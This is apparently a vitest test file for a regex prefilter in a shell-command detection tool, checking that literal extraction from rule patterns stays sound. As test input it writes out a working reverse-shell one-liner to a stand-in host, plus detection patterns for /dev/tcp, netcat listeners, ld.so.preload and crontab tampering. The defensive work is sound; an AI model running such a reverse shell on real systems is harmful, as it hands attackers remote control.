import { RE2JS, RE2Set } from 're2js';
import { describe, expect, it, vi } from 'vitest';
import { loadDefaultRules, parseRules } from '../../src/detect/load-rules.js';
import { containsAnyLiteral, requiredLiteral, requiredLiterals } from '../../src/detect/required-literal.js';
import { shellEvent } from './make-event.js';

describe('requiredLiteral', () => {
  it('reads runs of literal characters and plain-text groups at the top level', () => {
    expect(requiredLiteral('/dev/(tcp|udp)/')).toEqual(['/dev/tcp/', '/dev/udp/']);
    expect(requiredLiteral('>>?\\s*/etc/ld\\.so\\.preload\\b')).toEqual(['/etc/ld.so.preload']);
    expect(requiredLiteral('\\|\\s*(sudo\\s+)?crontab\\b')).toEqual(['crontab']);
    expect(requiredLiteral('(?:ab|c)d')).toEqual(['abd', 'cd']);
  });

  it('leaves out characters a quantifier makes optional or repeats', () => {
    expect(requiredLiteral('ab?c')).toEqual(['a']);
    expect(requiredLiteral('xy{2}z')).toEqual(['x']);
    expect(requiredLiteral('[0-7]{3}(\\s|$)')).toBeNull();
    expect(requiredLiteral('(ba|da)?sh')).toEqual(['sh']);
  });

  it('gives up on what it does not fully read', () => {
    for (const pattern of ['a|b', '(?i)sock', 'x\\Qab\\E', 'a\\x41b', 'a\\pLb', '(ab', '[ab', 'a{x}', '']) {
      expect(requiredLiteral(pattern), pattern).toBeNull();
    }
  });

  it('never names a literal that a match lacks', () => {
    const cases: [string, string[]][] = [
      ['/dev/(tcp|udp)/[0-9]+', ['x /dev/udp/53', '/dev/tcp/1']],
      ['(a|)b', ['b', 'ab']],
      ['\\bSELINUX=(disabled|permissive)\\b', ['SELINUX=permissive']],
      ['a\\.b[)|]c', ['a.b)c', 'a.b|c']],
      ['x(?:[(]|y)z', ['x(z', 'xyz']],
    ];
    for (const [pattern, texts] of cases) {
      const re = RE2JS.compile(pattern);
      for (const text of texts) {
        expect(re.test(text), `${pattern} on ${text}`).toBe(true);
        expect(containsAnyLiteral(text, requiredLiteral(pattern)), `${pattern} on ${text}`).toBe(true);
      }
    }
  });

  it('for a list, needs a literal from every pattern', () => {
    expect(requiredLiterals(['ab', '(c|d)e'])).toEqual(['ab', 'ce', 'de']);
    expect(requiredLiterals(['ab', '[0-9]+'])).toBeNull();
  });
});

describe('command regex prefilter', () => {
  it('does not run the command automaton over a long script holding none of the literals', () => {
    const script = 'for f in /var/tmp/*; do echo "$f" >/dev/null 2>&1; done; '.repeat(2000);
    const rules = loadDefaultRules();
    const match = vi.spyOn(RE2Set.prototype, 'match');
    try {
      expect(rules.match(shellEvent(script, {}, 'bash'))).toBeNull();
      expect(match).not.toHaveBeenCalled();
      // The same script with a reverse shell in it still hits, through the automaton.
      expect(rules.match(shellEvent(`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; ${script}`, {}, 'bash'))?.ruleId).toBe('reverse-shell-dev-tcp');
      expect(match).toHaveBeenCalled();
    } finally {
      match.mockRestore();
    }
  });

  it('keeps the results of rules written in a file', () => {
    const yaml = "rules:\n  - id: r1\n    name: R\n    severity: high\n    match:\n      command: ['/dev/(tcp|udp)/', '\\bnc\\s+-l']\n";
    const rules = parseRules(yaml, 'rules.yml');
    expect(rules.match(shellEvent('cat < /dev/udp/1.2.3.4/53'))?.ruleId).toBe('r1');
    expect(rules.match(shellEvent('nc  -l 4444'))?.ruleId).toBe('r1');
    expect(rules.match(shellEvent('cat /dev/null'))).toBeNull();
  });
});
